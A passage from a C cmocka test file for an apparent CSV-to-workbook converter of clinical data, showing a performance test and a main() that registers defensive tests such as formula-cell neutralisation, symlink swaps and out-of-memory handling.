    snprintf(path, sizeof(path), "%s/n.csv", dir);
    write_file(path, "note_id,encounter_id,patient_id,date_of_service,provider,text\n", 61);
    double base = cpu_run(dir, "ord.csv");
    double one = cpu_run(dir, "one.csv"), pay = cpu_run(dir, "pay.csv");
    print_message("ordinary %.2f s, one encounter %.2f s, distinct payers %.2f s (CPU)\n", base,
                  one, pay);
    assert_true(one < 3 * base);
    assert_true(pay < 3 * base);
    remove_tree(dir);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_formula_cells_neutralised),
        cmocka_unit_test(test_xml_invalid_replaced_at_import),
        cmocka_unit_test(test_workbook_well_formed),
        cmocka_unit_test(test_colliding_outputs),
        cmocka_unit_test(test_special_outputs),
        cmocka_unit_test(test_temp_swapped_for_symlink),
        cmocka_unit_test(test_modes),
        cmocka_unit_test(test_every_terminating_signal),
        cmocka_unit_test(test_out_of_memory),
        cmocka_unit_test(test_core_dumps_off),
        cmocka_unit_test(test_no_input_makes_the_run_crawl),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
